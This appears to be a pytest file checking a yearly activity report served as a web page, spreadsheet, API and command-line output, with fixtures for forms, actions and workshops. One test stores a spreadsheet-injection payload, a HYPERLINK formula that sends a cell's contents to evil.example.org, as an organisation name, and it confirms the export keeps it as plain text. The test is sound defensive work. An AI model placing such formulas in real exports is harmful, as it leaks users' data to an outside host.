"""The yearly report: page, spreadsheet, API, command line, on a year of known figures."""

import json
from datetime import UTC, date, datetime, timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook

from mobility.db import db
from mobility.models import Action, GroupWorkshop, LiaisonForm, Platform, Structure, WorkshopSeat
from mobility.rights import Role
from tests.house import House
from tests.web.test_workshops import others


@pytest.fixture
def year_2008(house: House) -> House:
    """One form received and met in 2008, two actions of one person, one action of another year."""
    with house.writing():
        db.session.add(
            LiaisonForm(
                number="FL-2008-0001",
                beneficiary_id=house.beneficiary_id,
                structure_id=house.structure_id,
                received_on=date(2008, 12, 31),
                met_on=date(2008, 12, 31),
                motive="job",
                status="closed",
            )
        )
        for kind, day in (("workshop", date(2008, 1, 1)), ("rental_car", date(2008, 5, 2)), ("workshop", date(2009, 1, 1))):
            db.session.add(Action(beneficiary_id=house.beneficiary_id, kind=kind, started_on=day))
    return house


def test_the_page_counts_the_year(year_2008: House) -> None:
    answer = year_2008.client(Role.MANAGER).get(year_2008.page("report?year=2008&budget=1001"))
    assert answer.status_code == 200
    told = answer.text.replace("\u202f", " ").replace("\xa0", " ")
    assert "1 001 €" in told
    assert "Location de voiture : 1<" in told and told.count('class="bar-fill"') == 2, "a bar for each kind of action of the year"
    assert 'class="bar-fill"' not in year_2008.client(Role.MANAGER).get(year_2008.page("report?year=2007")).text, "no action, no picture"


def test_the_api_gives_the_keys(year_2008: House) -> None:
    answer = year_2008.app.test_client().get(year_2008.api("report?year=2008&budget=1001"), headers=year_2008.bearer(Role.MANAGER))
    assert answer.status_code == 200
    told = answer.get_json()
    assert {key: told[key] for key in ("prescriptions", "structures", "people_met", "women", "men", "actions", "beneficiaries")} == {
        "prescriptions": 1,
        "structures": 1,
        "people_met": 1,
        "women": 1,
        "men": 0,
        "actions": 2,
        "beneficiaries": 1,
    }
    assert told["cost_per_beneficiary_eur"] == 1001


def test_a_question_out_of_sense_is_said(year_2008: House) -> None:
    page = year_2008.client(Role.MANAGER).get(year_2008.page("report?year=deux"))
    assert page.status_code == 422
    assert "nombre entier" in page.text
    api = year_2008.app.test_client().get(year_2008.api("report?year=99999"), headers=year_2008.bearer(Role.MANAGER))
    assert api.status_code == 422
    assert "year" in api.get_json()["errors"]


def test_the_spreadsheet_opens(year_2008: House) -> None:
    answer = year_2008.client(Role.MANAGER).get(year_2008.page("report.xlsx?year=2008&budget=1001"))
    sheet = load_workbook(BytesIO(answer.data)).worksheets[0]
    found = {row[:2]: row[2:] for row in sheet.iter_rows(values_only=True)}
    assert found["Ce qui est compté", "Détail"] == ("Valeur", "Unité"), "headings say what a column is"
    assert found["Actions", None] == (2, None)
    assert found["Femmes, en part", None] == (100, "%")
    assert found["Actions par type", "location de voiture"] == (1, None)
    assert found["Fins selon l’emploi à la sortie", "aucun"] == (None, None), "a table without lines is said, as on the page"
    assert found["Budget", None] == (1001, "€")
    assert {cell.number_format for cell in sheet["C"] if sheet.cell(cell.row, 4).value == "€"} == {'#,##0.00\\ "€"'}
    longest = max(len(row[0]) for row in found)
    assert sheet.column_dimensions["A"].width > longest and sheet.freeze_panes == "A2", "read without pulling at it"


def test_the_command_prints_json(year_2008: House) -> None:
    runner = year_2008.app.test_cli_runner()
    done = runner.invoke(args=["report", "year", "2008", "--platform", year_2008.slug, "--budget", "1001", "--json"])
    assert done.exit_code == 0, done.output
    assert json.loads(done.output)["cost_per_beneficiary_eur"] == 1001
    lost = runner.invoke(args=["report", "year", "2008", "--platform", "nulle-part"])
    assert lost.exit_code == 1
    assert "Aucune plateforme" in lost.output


def test_no_name_in_the_spreadsheet_is_ever_run_as_a_formula(year_2008: House) -> None:
    hostile = '=HYPERLINK("https://evil.example.org/?"&A2;"Bilan")'
    with year_2008.writing():
        db.session.get_one(Platform, year_2008.platform_id).name = hostile
        db.session.get_one(Structure, year_2008.structure_id).name = hostile
    answer = year_2008.client(Role.MANAGER).get(year_2008.page("report.xlsx?year=2008"))
    sheet = load_workbook(BytesIO(answer.data)).worksheets[0]
    assert sheet.title.startswith("Bilan 2008, =HYPERLINK")
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}, "no formula"


def test_the_year_counts_its_workshops_and_who_came(house: House) -> None:
    noon = datetime(2008, 3, 4, 11, tzinfo=UTC)
    people = others(house, 3)
    with house.writing():
        told = {"subject": "networks", "title": "Prendre le bus", "minutes": 90, "places": 6, "open_to": "everybody", "place": "Mairie"}
        held = GroupWorkshop(**told, starts_at=noon, held_at=noon)
        db.session.add_all(
            [held, GroupWorkshop(**told, starts_at=noon), GroupWorkshop(**told, starts_at=noon + timedelta(days=365), held_at=noon)]
        )
        db.session.flush()
        for person_id, mark in zip(people, ("came", "late", "absent"), strict=True):
            seat = WorkshopSeat(group_workshop_id=held.id, beneficiary_id=person_id, state="accepted", asked_at=noon, mark=mark)
            db.session.add(seat)
    told = house.app.test_client().get(house.api("report?year=2008"), headers=house.bearer(Role.MANAGER)).get_json()
    counted = {"workshops": 1, "workshop_places": 6, "workshop_presences": 2, "workshop_absences": 1, "workshop_hours": 3}
    assert {key: told[key] for key in counted} == counted
    page = house.client(Role.MANAGER).get(house.page("report?year=2008")).text.replace("\u202f", " ").replace("\xa0", " ")
    assert "3 h" in page and "Présences à un atelier" in page
